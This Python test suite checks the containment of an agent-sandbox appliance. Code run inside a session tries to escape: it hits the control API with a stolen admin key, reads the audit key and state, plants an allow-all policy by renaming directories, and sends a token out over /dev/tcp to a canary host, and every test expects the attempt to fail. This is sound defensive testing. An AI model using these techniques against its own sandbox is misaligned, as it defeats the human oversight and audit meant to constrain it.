"""Section K: the control plane, the policy and the audit log, from inside a session."""

import json
import os
import pathlib
import pwd
import socket
import subprocess
import threading

import escape
import harness
from escape import CANARY4, PORT, Row

API_PORT = 18081
ADMIN_KEY = "admin-key-0123456789abcdef0123456789abcdef"

POLICY = harness.POLICY.replace("network_rules:\n", """network_rules:
  - {name: this-host, cidrs: ["11.22.33.10/32", "127.0.0.0/8"], decision: allow}
""")

API_REQUEST = """
import glob
def ask(s):
    s.settimeout(3)
    s.sendall(b"GET /api/v1/sessions HTTP/1.1\\r\\nHost: localhost\\r\\nX-API-Key: " + KEY + b"\\r\\nConnection: close\\r\\n\\r\\n")
    answer = b""
    try:
        while piece := s.recv(65536): answer += piece
    except OSError: pass
    if b"session-" in answer: escaped(answer[:200])
    print(answer[:300])
"""


class ControlPlane(escape.EscapeTest):
    """The session's workspace is the directory that holds everything of the appliance: state, socket, policies, keys."""

    rows = [
        Row("K1-socket", "the control API by its Unix socket", API_REQUEST + """
s = socket.socket(AF_UNIX); s.connect(SOCKET); ask(s)
""", delivers=False),
        Row("K1-spellings", "the same socket under other spellings, and every other socket in sight", API_REQUEST + """
names = [SOCKET, "/proc/self/root" + SOCKET, "/proc/1/root" + SOCKET, "/proc/1/cwd" + SOCKET, SOCKET.replace("/run/", "//run/./")]
for directory, _, files in os.walk(HOME):
    names += [os.path.join(directory, f) for f in files if f.endswith(".sock")]
for name in names:
    try: s = socket.socket(AF_UNIX); s.connect(name); ask(s)
    except OSError as e: print(name, e)
""", delivers=False),
        Row("K1-client", "the client program, told where the server is",
            ("sh", "-c", "AGENTSH_NO_AUTO=1 AGENTSH_SERVER=unix:{SOCKET} {BIN}/agentsh session list; "
             "AGENTSH_NO_AUTO=1 AGENTSH_SERVER=unix:{SOCKET} {BIN}/agentsh session list 2>/dev/null | grep -q session- "
             "&& echo ESCAPED; exit 0"), delivers=False),
        Row("K1-tcp", "the API over TCP with a stolen key, on an address that the policy allows", API_REQUEST + """
s = socket.create_connection((WEB4, API_PORT)); ask(s)
""", delivers=False),
        Row("K1-tcp-loopback", "the same on the host's loopback", API_REQUEST + """
s = socket.create_connection(("127.0.0.1", API_PORT)); ask(s)
""", delivers=False),
        Row("K1-tcp-name", "the same by a name that the policy allows",
            ("sh", "-c", "curl -sS --max-time 3 -H 'X-API-Key: {KEY_TEXT}' --resolve www.example.com:{API_PORT}:{WEB4} "
             "http://www.example.com:{API_PORT}/api/v1/sessions | grep -q session- && echo ESCAPED; exit 0"), delivers=False),
        Row("K2-read", "the keys, the state and the audit log", """
for name in STATE_FILES:
    try: open(name, "rb").read(1); escaped(name)
    except OSError as e: print(name, e)
try:
    if os.listdir(STATE): escaped(STATE, os.listdir(STATE))
except OSError as e: print(STATE, e)
""", delivers=False),
        Row("K2-write", "the policy, the configuration and the audit log changed where they are", """
for name in STATE_FILES + [POLICY_FILE, CONFIG_FILE]:
    try: os.close(os.open(name, os.O_WRONLY | os.O_APPEND)); escaped(name)
    except OSError as e: print(name, e)
""", delivers=False),
        Row("K14-binaries", "the appliance's own programs",
            ("sh", "-c", "for p in agentsh agentshd agentsh-init; do test -w {BIN}/$p && : >> {BIN}/$p && echo ESCAPED $p; done; exit 0"),
            delivers=False),
    ]

    @classmethod
    def setUpClass(cls):
        cls.internet = escape.internet()
        cls.world = harness.shared_world()
        cls.appliance = cls.make_appliance()
        cls.tokens = []
        cls.tools = cls.appliance.workspace()
        escape.compile_programs(cls.tools)
        result = cls.appliance.cli("session", "create", "--workspace", cls.appliance.home)
        assert result.returncode == 0, result.stderr
        cls.sid = result.stdout.decode().strip()

    @classmethod
    def make_keys(cls):
        directory = pathlib.Path(cls.world.directory) / f"keys-{cls.__name__}"
        directory.mkdir()
        keys = directory / "keys.yaml"
        keys.write_text(f"- {{id: admin, key: {ADMIN_KEY}, role: admin}}\n")
        keys.chmod(0o600)
        if harness.Arguments.user:
            harness.run("chown", "-R", harness.Arguments.user, str(directory))
        return f"auth: {{type: api_key, api_key: {{keys_file: {keys}}}}}\n"

    @classmethod
    def make_appliance(cls):
        return harness.Appliance(cls.world, harness.Arguments.user, {"e2e": POLICY}, cls.make_keys(),
                                 server=f", http: {{addr: '0.0.0.0:{API_PORT}'}}")

    def state(self):
        return self.appliance.home / "state"

    def state_files(self):
        found = [p for p in self.state().rglob("*") if p.is_file() and not p.is_symlink()]
        self.assertTrue([p for p in found if p.suffix == ".jsonl"], found)
        self.assertTrue([p for p in found if "key" in p.name], found)
        return [str(p) for p in found]

    def values(self):
        return dict(super().values(), SOCKET=str(self.appliance.socket), HOME=str(self.appliance.home),
                    STATE=str(self.state()), STATE_FILES=self.state_files(),
                    POLICY_FILE=str(self.appliance.policies / "e2e.yaml"), CONFIG_FILE=str(self.appliance.config),
                    BIN=str(harness.Arguments.bin), API_PORT=API_PORT, KEY=ADMIN_KEY.encode(), KEY_TEXT=ADMIN_KEY)

    def show_unconfined(self, row):
        if row.identifier in ("K2-write", "K14-binaries"):
            return  # As root outside it succeeds by definition; opening the log for writing there proves nothing.
        super().show_unconfined(row)

    def run_inside(self, program):
        definitions = "".join(f"{name} = {value!r}\n" for name, value in self.values().items())
        result = self.inside(["/usr/bin/python3", "-c", f"import os, shutil\n{definitions}\n{program}"])
        self.assertEqual(result.returncode, 0, self.text(result))
        return result.stdout.decode()

    def test_K2_renamed_parents(self):
        """K2: another tree in the place of the policies, by renaming what stands above them"""
        before = (self.appliance.home / "policies/e2e.yaml").read_text()
        output = self.run_inside("""
evil = "version: 1\\nname: e2e\\nnetwork_rules: [{name: all, cidrs: ['0.0.0.0/0', '::/0'], domains: ['*'], decision: allow}]\\n"
def attempt(name, action):
    try: action(); print("did", name)
    except OSError as e: print("failed", name, e)
def replace(directory):
    attempt("rename " + directory, lambda: os.rename(directory, directory + ".old"))
    attempt("mkdir " + directory, lambda: os.makedirs(directory))
    attempt("write " + directory, lambda: open(directory + "/e2e.yaml", "w").write(evil))
for directory in (HOME + "/policies", HOME):
    replace(directory)
attempt("symlink", lambda: os.symlink(HOME + "/evil", HOME + "/policies"))
attempt("new file", lambda: open(HOME + "/policies/other.yaml", "w").write(evil))
attempt("config", lambda: os.rename(HOME + "/config.yaml", HOME + "/config.old"))
attempt("config", lambda: os.unlink(HOME + "/config.yaml"))
""")
        policies = self.appliance.home / "policies"
        self.assertEqual(sorted(p.name for p in policies.iterdir()), ["e2e.yaml"], output)
        self.assertEqual((policies / "e2e.yaml").read_text(), before, output)
        self.assertTrue((self.appliance.home / "config.yaml").exists(), output)

    def test_K7_audit_log(self):
        """K7: the log still verifies after everything above, and nothing of it was written by a session"""
        result = self.appliance.cli("audit", "verify", "--dir", self.state() / "audit", "--key-file", self.state() / "audit.key")
        self.assertEqual(result.returncode, 0, self.text(result))


class DeepHome(ControlPlane):
    """The usual place: the workspace is a home directory, the appliance's own directories lie two levels below."""

    rows = []

    @classmethod
    def setUpClass(cls):
        cls.internet = escape.internet()
        cls.world = harness.shared_world()
        cls.tokens = []
        home = cls.home = pathlib.Path(cls.world.directory) / "person"
        for path in (".config/agentsh/policies", ".local/state/agentsh", ".local/run/agentsh", "project"):
            (home / path).mkdir(parents=True)
        (home / ".local/run/agentsh").chmod(0o700)
        (home / ".config/agentsh/policies/e2e.yaml").write_text(POLICY)
        config = home / ".config/agentsh/config.yaml"
        config.write_text(
            f"server: {{state_dir: {home}/.local/state/agentsh, "
            f" unix_socket: {{path: {home}/.local/run/agentsh/agentsh.sock}}, http: {{addr: '127.0.0.1:{API_PORT}'}}}}\n"
            f"policies: {{dir: {home}/.config/agentsh/policies, default: e2e}}\n"
            f"sandbox: {{network: {{intercept_mode: {harness.Arguments.intercept}, "
            f" resolvers: ['{harness.RESOLVER4}:53']}}}}\n" + cls.make_keys())
        if harness.Arguments.user:
            harness.run("chown", "-R", harness.Arguments.user, str(home))
        # The harness's own appliance with these paths in the place of its own.
        cls.appliance = appliance = harness.Appliance.__new__(harness.Appliance)
        appliance.world, appliance.home, appliance.config = cls.world, home, config
        appliance.user = pwd.getpwnam(harness.Arguments.user) if harness.Arguments.user else None
        appliance.socket = home / ".local/run/agentsh/agentsh.sock"
        appliance.policies = home / ".config/agentsh/policies"
        appliance.log = open(cls.world.directory / "person.log", "ab")
        appliance.log_text = lambda: (cls.world.directory / "person.log").read_text(errors="replace")
        appliance.daemon = None
        appliance.start()
        cls.tools = home / "project"
        result = appliance.cli("session", "create", "--workspace", home)
        assert result.returncode == 0, result.stderr
        cls.sid = result.stdout.decode().strip()

    def state(self):
        return self.home / ".local/state/agentsh"

    def show_unconfined(self, row):
        if row.identifier not in ("K1-tcp", "K1-tcp-name"):  # The API listens on loopback only here.
            super().show_unconfined(row)

    def test_K2_renamed_parents(self):
        """K2: the directories above the policies, the state and the socket renamed away and made anew"""
        output = self.run_inside("""
for name in (".config", ".config/agentsh", ".config/agentsh/policies", ".local", ".local/state", ".local/state/agentsh",
             ".local/run", ".local/run/agentsh"):
    path = os.path.join(HOME, name)
    for action in (lambda: os.rename(path, path + ".old"), lambda: os.makedirs(path), lambda: open(path + "/planted", "w")):
        try: action(); print("did", path)
        except OSError as e: print("failed", path, e)
""")
        planted = [str(p) for p in self.home.rglob("*.old")] + [str(p) for p in self.home.rglob("planted")]
        allowed = {str(self.home / p / "planted") for p in (
            # A file beside ours is nobody's business.
            ".config", ".config/agentsh", ".local", ".local/state", ".local/run", ".local/run/agentsh")}
        self.assertEqual(set(planted) - allowed, set(), output)
        self.assertEqual((self.appliance.policies / "e2e.yaml").read_text(), POLICY, output)

    def test_K2_second_place(self):
        """K2: the same by the workspace's second place, /workspace"""
        result = self.appliance.cli("session", "create", "--virtual-paths", "--workspace", self.home)
        self.assertEqual(result.returncode, 0, result.stderr)
        sid = result.stdout.decode().strip()
        result = self.appliance.cli("exec", sid, "--", "sh", "-c", """
cd /workspace; ls -a
cat .local/state/agentsh/audit.key .local/state/agentsh/ca/* .config/agentsh/policies/e2e.yaml && echo ESCAPED read
echo x >> .config/agentsh/policies/e2e.yaml && echo ESCAPED write
touch .config/agentsh/policies/new.yaml && echo ESCAPED new
mv .config .config2 && echo ESCAPED rename; mv .config/agentsh .config/agentsh2 && echo ESCAPED rename
mv .local/state .local/state2 && echo ESCAPED rename
echo work > project/file && cat project/file""", cwd=self.tools)
        self.assertNotIn(b"ESCAPED", result.stdout, self.text(result))
        self.assertIn(b"work\n", result.stdout, self.text(result))
        self.assertIn(b".config", result.stdout, self.text(result))
        self.assertEqual((self.appliance.policies / "e2e.yaml").read_text(), POLICY)

    def test_K2_work_goes_on(self):
        """What lies beside stays the session's to use, and files move between these directories"""
        output = self.run_inside("""
os.makedirs(HOME + "/.config/tool"); open(HOME + "/.config/tool/settings", "w").write("x")
os.rename(HOME + "/.config/tool", HOME + "/.config/tool2"); os.makedirs(HOME + "/.local/share/tool")
shutil.move(HOME + "/.config/tool2/settings", HOME + "/settings"); print(open(HOME + "/settings").read())
""")
        self.assertEqual(output, "x\n")


class Reload(escape.EscapeTest):
    """Changing policies, good and bad, while a session tries."""

    HAMMER = """
import socket, sys, threading, time
token, address, port = sys.argv[1].encode(), sys.argv[2], int(sys.argv[3])
until = time.monotonic() + 150
count = 0
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while time.monotonic() < until:
        try: s.sendto(token, (address, port))
        except OSError: pass
        time.sleep(0.001)
threading.Thread(target=udp, daemon=True).start()
print("running", flush=True)
while time.monotonic() < until:
    s = socket.socket(); s.settimeout(0.2)
    try: s.connect((address, port)); s.sendall(token + b"\\n\\n"); s.recv(10)
    except OSError: pass
    s.close()
"""

    MALFORMED = [
        "", "version: 1\n", "not yaml: [", "version: 0\nname: e2e\n", "version: 1\nname: e2e\nnetwork_rules: allow\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, decision: alow}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domain: ['*'], decision: allow}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, cidrs: ['11.22.33.0/33'], decision: allow}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, cidrs: [11.22.33], decision: allow}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, ports: [70000], decision: allow}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, ports: ['x'], decision: allow}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: [allow]}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: allow-all}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: allow, decision: deny}]\n",
        "version: 1\nname: e2e\nnetwork_rule: [{name: a, domains: ['*'], decision: allow}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: allow}]\nnetwork_rules: []\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['[a'], decision: allow}]\n",
        "version: 1\nname: e2e\nnetwork_rules: &a [{name: a, domains: ['*'], decision: allow, next: *a}]\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: allow}]\n" + "\tx: 1\n",
        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: allow}]\n\xff\xfe",
        "version: 1\nname: e2e\nfile_rules: [{name: a, paths: ['${NOWHERE}/**'], operations: [all], decision: allow}]\n",
        "- version: 1\n", "version: one\nname: e2e\n", "{" * 3000, "version: 1\nname: [e2e]\n",
    ]

    def write(self, name, text):
        path = self.appliance.policies / f"{name}.yaml"
        path.write_bytes(text.encode("latin-1"))
        if self.appliance.user:
            os.chown(path, self.appliance.user.pw_uid, self.appliance.user.pw_gid)

    def test_K3_reload(self):
        """K3: no packet slips through while the policy is exchanged, and a bad one changes nothing"""
        token = self.new_token("k3")
        self.tokens.append(token)
        process = subprocess.Popen(
            self.appliance.as_user([harness.Arguments.bin / "agentsh", "exec", self.sid, "--", "/usr/bin/python3", "-c",
                                    self.HAMMER, token.decode(), CANARY4, str(PORT)]),
            env=self.appliance.environment(), cwd=self.tools, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
        self.addCleanup(process.stdout.close)
        self.addCleanup(process.wait)
        self.addCleanup(process.kill)
        self.assertEqual(process.stdout.readline(), b"running\n")

        def updates():
            return len(self.events(self.sid, "--type", "policy_updated"))

        for number in range(12):
            seen = updates()
            extra = "".join(f"  - {{name: d{number}-{i}, cidrs: ['10.{number}.{i}.0/24'], decision: deny}}\n" for i in range(40))
            self.write("e2e", harness.POLICY.replace("network_rules:\n", "network_rules:\n" + extra))
            harness.wait_until(lambda: updates() > seen, "the new policy is in force", 20)
            self.write("e2e", self.MALFORMED[number])
            self.appliance.daemon.send_signal(1)
        self.write("e2e", harness.POLICY)
        self.assertIsNone(process.poll())
        self.assertFalse(self.arrived(token))
        self.assertEqual(self.inside(["curl", "-sS", "http://www.example.com/"]).stdout, b"hello\n")

    def test_K4_malformed(self):
        """K4: a session under a policy that says nothing sure is not made"""
        for number, text in enumerate(self.MALFORMED):
            name = f"bad{number}"
            self.write(name, text)
            result = self.appliance.cli("session", "create", "--workspace", self.tools, "--policy", name)
            if number in (0, 1) and result.returncode == 0:
                self.fail("a policy without rules or name made a session")
            self.assertNotEqual(result.returncode, 0, text)
            self.assertIn(b"agentsh", result.stderr)
            (self.appliance.policies / f"{name}.yaml").unlink()
        for name in ("nothing", "../e2e", "/etc/passwd", "e2e.yaml", ""):
            result = self.appliance.cli("session", "create", "--workspace", self.tools, "--policy=" + name)
            if name:
                self.assertNotEqual(result.returncode, 0, name)

    def test_K4_approve_without_anybody(self):
        """K4: `approve` with nobody to ask is a denial, at once"""
        self.write("ask", harness.POLICY.replace("domains: [\"example.com\", \"*.example.com\", \"other.example.net\"], decision: allow",
                                                 "domains: [\"*.example.com\"], decision: approve"))
        result = self.appliance.cli("session", "create", "--workspace", self.tools, "--policy", "ask")
        self.assertEqual(result.returncode, 0, result.stderr)
        sid = result.stdout.decode().strip()
        result = self.appliance.cli("exec", sid, "--", "curl", "-sS", "--max-time", "10", "http://www.example.com/",
                                    cwd=self.tools)
        self.assertNotEqual(result.stdout, b"hello\n")

    def test_K1_connection_as_standard_input(self):
        """K1: a connection to the control API that comes as standard input has the rights of who opened it"""
        program = ("import os, socket; s = socket.socket(fileno=os.dup(0)); s.settimeout(3); "
                   "s.sendall(b'GET /api/v1/sessions HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n'); print(s.recv(15))")
        for inside in (False, True):
            with socket.socket(socket.AF_UNIX) as api:
                api.connect(str(self.appliance.socket))
                if inside:
                    result = self.appliance.cli("exec", self.sid, "--", "/usr/bin/python3", "-c", program, stdin=api)
                    self.assertEqual((result.returncode, result.stdout), (2, b""), self.text(result))
                    self.assertIn(b"connection to this server", result.stderr)
                else:
                    self.assertIn(b"HTTP/1.1 ", self.outside(["/usr/bin/python3", "-c", program], stdin=api).stdout)

    def test_K10_from_inside(self):
        """K10: the program itself, started inside, opens no way out: no server of its own, no other session"""
        token = self.new_token("k10")
        agentsh = harness.Arguments.bin / "agentsh"
        dodge = f"echo {token.decode()} > /dev/tcp/{CANARY4}/{PORT}"
        outside = self.outside(["bash", "-c", dodge])
        self.assertTrue(self.internet.canaries.wait_for(token), self.text(outside))
        token = self.new_token("k10-inside")
        self.tokens.append(token)
        dodge = dodge.replace(dodge.split()[1], token.decode())
        for command in (f"timeout 10 {agentsh} wrap -- bash -c '{dodge}'",
                        f"timeout 10 {agentsh} exec {self.sid} -- bash -c '{dodge}'",
                        f"XDG_RUNTIME_DIR=/tmp HOME=/tmp timeout 10 {agentsh} wrap -- bash -c '{dodge}'",
                        f"AGENTSH_IN_SESSION=0 AGENTSH_NO_AUTO=0 timeout 10 {agentsh} wrap -- bash -c '{dodge}'"):
            result = self.inside(["sh", "-c", command])
            self.assertFalse(self.arrived(token), f"{command}: {self.text(result)}")

    def test_K10_daemon_killed(self):
        """K10: with the daemon killed, what ran in the session has no way out either"""
        appliance = harness.Appliance(self.world, harness.Arguments.user)
        workspace = appliance.workspace()
        token = self.new_token("k10-kill")
        self.tokens.append(token)
        sid = appliance.cli("session", "create", "--workspace", workspace).stdout.decode().strip()
        process = subprocess.Popen(
            appliance.as_user([harness.Arguments.bin / "agentsh", "exec", sid, "--", "/usr/bin/python3", "-c", self.HAMMER,
                               token.decode(), CANARY4, str(PORT)]),
            env=appliance.environment(), cwd=workspace, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL)
        with process:
            self.assertEqual(process.stdout.readline(), b"running\n")
            appliance.kill()
            process.wait(15)
        self.assertFalse(self.arrived(token))


class Degraded(escape.EscapeTest):
    def test_K11_required_mechanism(self):
        """K11: eBPF where it is required and cannot be had is a refusal, not another mechanism in silence"""
        with self.assertRaisesRegex(RuntimeError, "eBPF is required by the configuration"):
            harness.Appliance(self.world, "nobody", intercept="ebpf")


if __name__ == "__main__":
    escape.main()
